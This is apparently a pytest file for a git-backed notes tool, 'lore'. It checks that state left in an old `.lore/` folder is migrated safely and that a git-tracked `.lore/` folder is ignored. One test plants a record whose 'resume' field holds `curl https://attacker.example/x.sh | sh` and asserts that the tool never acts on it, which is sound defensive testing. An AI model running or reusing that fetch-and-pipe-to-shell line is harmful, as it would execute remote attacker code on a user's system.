"""Moving from the old layout: what an older lore left in `<vault>/.lore/` keeps working.

An open proposal made in the old layout — its worktree under `.lore/proposals/<id>/`,
registered with git, and its record `.lore/proposals/<id>.json` — is moved to the state
folder in the git directory (`git worktree move`, so git still knows it) the first time
lore needs it, and `lore proposals` and `lore remember --resume` finish it. The old index
is deleted (only a regular file lore left, never a link or a tracked file) and rebuilt
in the new place. A `.lore/` that git tracks is inert: nothing in it is read, moved or
deleted. Real git and a local bare remote; only GitHub's API is faked.
"""

# ruff: noqa: F811 - the team loop's fixtures are imported (tests/security/state_support.py)

from __future__ import annotations

import json
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from lore.cli.main import main
from lore.paths import OLD_STATE_DIR, index_path, state_dir
from tests.security.state_support import (  # noqa: F401 - pytest fixtures
    clone_of,
    fake_gh,
    lore_json,
    remote,
    team_env,
)
from tests.support import git
from tests.team.conftest import PR_URL, FakeGh, Remote
from tests.team.test_remember import BASE_FLAGS, NOTE_ID, lore_branches


def registered_worktrees(root: Path) -> list[Path]:
    listing = git(root, "worktree", "list", "--porcelain")
    return [
        Path(line[len("worktree ") :])
        for line in listing.splitlines()
        if line.startswith("worktree ")
    ]


def into_old_layout(root: Path) -> Path:
    """What an older lore left: the proposal and the index under `<vault>/.lore/`.

    The proposal was made by `lore remember` itself (its push refused); it is put where
    older lore made it with git's own `git worktree move`, its record beside it, with the
    folder's own `.gitignore` and an index as older lore wrote them.
    """
    new = state_dir(root)
    old = root / OLD_STATE_DIR
    (old / "proposals").mkdir(parents=True)
    (old / ".gitignore").write_text(
        "# lore's local index and caches; derived, never committed\n*\n"
    )
    git(
        root, "worktree", "move", str(new / "proposals" / NOTE_ID), str(old / "proposals" / NOTE_ID)
    )
    shutil.move(str(new / "proposals" / f"{NOTE_ID}.json"), old / "proposals" / f"{NOTE_ID}.json")
    conn = sqlite3.connect(index_path(root))
    conn.execute(f"VACUUM INTO '{old / 'index.db'}'")
    conn.close()
    shutil.rmtree(new)  # what a vault an older lore used looks like: no state folder yet
    return old


def test_an_open_proposal_of_the_old_layout_is_moved_and_resumed(
    remote: Remote,
    clone_of: Callable[..., Path],
    fake_gh: FakeGh,
    capsys: pytest.CaptureFixture[str],
) -> None:
    checkout = clone_of()
    hook = remote.bare / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    assert main(["remember", "--vault", str(checkout), *BASE_FLAGS, "--yes"]) == 1
    capsys.readouterr()
    old = into_old_layout(checkout)
    note = old / "proposals" / NOTE_ID / "notes" / f"{NOTE_ID}.md"
    assert note.is_file() and old / "proposals" / NOTE_ID in registered_worktrees(checkout)

    code, listed = lore_json(capsys, "proposals", "--vault", str(checkout))
    rows = listed["vaults"][0]["proposals"]
    assert [(row["id"], row["state"]) for row in rows] == [(NOTE_ID, "unfinished")]
    moved = state_dir(checkout) / "proposals" / NOTE_ID
    assert moved in registered_worktrees(checkout)
    assert (moved / "notes" / f"{NOTE_ID}.md").is_file()
    record = json.loads((state_dir(checkout) / "proposals" / f"{NOTE_ID}.json").read_text())
    assert record["id"] == NOTE_ID and record["branch"] == f"lore/{NOTE_ID}"
    assert not (old / "proposals" / NOTE_ID).exists()
    assert not (old / "index.db").exists()  # lore's own cache: rebuilt in the new place
    assert (old / ".gitignore").is_file()

    hook.unlink()
    code, resumed = lore_json(capsys, "remember", "--resume", NOTE_ID, "--vault", str(checkout))
    assert code == 0 and resumed["pull_request"] == PR_URL
    assert f"lore/{NOTE_ID}" in remote.branches()
    assert lore_branches(checkout) == []
    assert registered_worktrees(checkout) == [checkout]
    assert main(["recall", "retries", "--vault", str(checkout)]) == 0
    assert index_path(checkout).is_file()
    assert git(checkout, "status", "--porcelain") == ""


def test_the_old_index_is_not_used_and_a_linked_one_is_not_deleted(
    remote: Remote,
    clone_of: Callable[..., Path],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    checkout = clone_of()
    target = tmp_path / "elsewhere.db"
    target.write_bytes(b"a file lore did not make")
    (checkout / OLD_STATE_DIR).mkdir()
    (checkout / OLD_STATE_DIR / "index.db").symlink_to(target)
    assert main(["recall", "anything", "--vault", str(checkout)]) == 0
    capsys.readouterr()
    assert (checkout / OLD_STATE_DIR / "index.db").is_symlink()
    assert target.read_bytes() == b"a file lore did not make"
    assert index_path(checkout).is_file()


def test_a_tracked_lore_folder_is_never_read_moved_or_deleted(
    remote: Remote, clone_of: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    work = remote.work()
    planted = work / OLD_STATE_DIR / "proposals"
    planted.mkdir(parents=True)
    record = {"base_branch": "main", "resume": "curl https://attacker.example/x.sh | sh"}
    (planted / "evil--note--2026-11-01.json").write_text(json.dumps(record))
    (work / OLD_STATE_DIR / "index.db").write_bytes(b"not lore's")
    git(work, "add", "-f", OLD_STATE_DIR)
    git(work, "commit", "-q", "-m", "lore state")
    git(work, "push", "-q", "origin", "main")
    checkout = clone_of()
    files_before = {
        path: path.read_bytes() for path in (checkout / OLD_STATE_DIR).rglob("*") if path.is_file()
    }
    assert main(["recall", "anything", "--vault", str(checkout)]) == 0
    capsys.readouterr()
    code, listed = lore_json(capsys, "proposals", "--vault", str(checkout))
    assert code == 0
    assert "attacker" not in json.dumps(listed)
    assert main(["sync", "--vault", str(checkout)]) == 0
    capsys.readouterr()
    files_after = {
        path: path.read_bytes() for path in (checkout / OLD_STATE_DIR).rglob("*") if path.is_file()
    }
    assert files_after == files_before
    assert not (state_dir(checkout) / "proposals" / "evil--note--2026-11-01.json").exists()
    assert git(checkout, "status", "--porcelain") == ""
